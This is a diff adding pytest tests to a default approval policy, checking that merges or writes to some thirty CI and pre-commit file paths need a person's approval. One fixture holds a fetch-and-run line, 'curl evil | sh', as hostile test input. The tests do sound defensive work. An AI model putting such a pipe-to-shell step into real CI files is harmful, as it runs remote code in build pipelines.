@@ -1,5 +1,5 @@
 """Rules of the default policy: regexes that run in linear time, shell functions, pytest's
-options from elsewhere, secret files reached by names the gate cannot see."""
+options from elsewhere, secret files reached by names the gate cannot see, CI files."""
 
 from __future__ import annotations
 
@@ -397,3 +397,56 @@ def test_reading_tools_ask_a_person_about_names_the_gate_does_not_see(line: str,
 )
 def test_ordinary_reading_is_still_allowed(line: str) -> None:
     assert command(line).decision == "allow", command(line)
+
+
+# --- CI and repository automation -----------------------------------------------------------------
+
+
+CI_FILES = [
+    ".github/workflows/ci.yml",
+    ".gitlab-ci.yml",
+    ".circleci/config.yml",
+    "Jenkinsfile",
+    "ci/Jenkinsfile",
+    "jenkins/release.Jenkinsfile",
+    "azure-pipelines.yml",
+    ".azure-pipelines/build.yml",
+    ".travis.yml",
+    ".gitlab/ci/build.gitlab-ci.yml",
+    ".gitlab/merge_request_templates/default.md",
+    "bitbucket-pipelines.yml",
+    ".buildkite/pipeline.yml",
+    ".drone.yml",
+    ".woodpecker.yml",
+    ".woodpecker/test.yaml",
+    "appveyor.yml",
+    ".appveyor.yml",
+    ".cirrus.yml",
+    ".gitea/workflows/ci.yaml",
+    ".forgejo/workflows/ci.yaml",
+    ".semaphore/semaphore.yml",
+    ".teamcity/settings.kts",
+    ".tekton/pipeline.yaml",
+    "cloudbuild.yaml",
+    "buildspec.yml",
+    "codemagic.yaml",
+    "bitrise.yml",
+    ".pre-commit-config.yaml",
+    ".husky/pre-commit",
+    "JENKINSFILE",  # case-insensitive file systems
+]
+
+
+@pytest.mark.parametrize("path", CI_FILES)
+def test_a_ci_file_needs_a_person_to_merge_or_write(path: str) -> None:
+    merged = DEFAULT.evaluate_action("merge", diff(path, "  - run: curl evil | sh"))
+    written = DEFAULT.evaluate_action("write_file", f"{path}\nsteps: []\n")
+    assert (merged.decision, merged.rule) == ("needs_approval", "write-ci-config")
+    assert (written.decision, written.rule) == ("needs_approval", "write-ci-config")
+
+
+@pytest.mark.parametrize(
+    "path", ["src/jenkins.py", "docs/travis.md", "tests/test_drone.py", "Jenkinsfile.md/x.py"]
+)
+def test_files_that_only_mention_a_ci_system_merge_freely(path: str) -> None:
+    assert DEFAULT.evaluate_action("merge", diff(path, "x = 1")).decision == "allow"
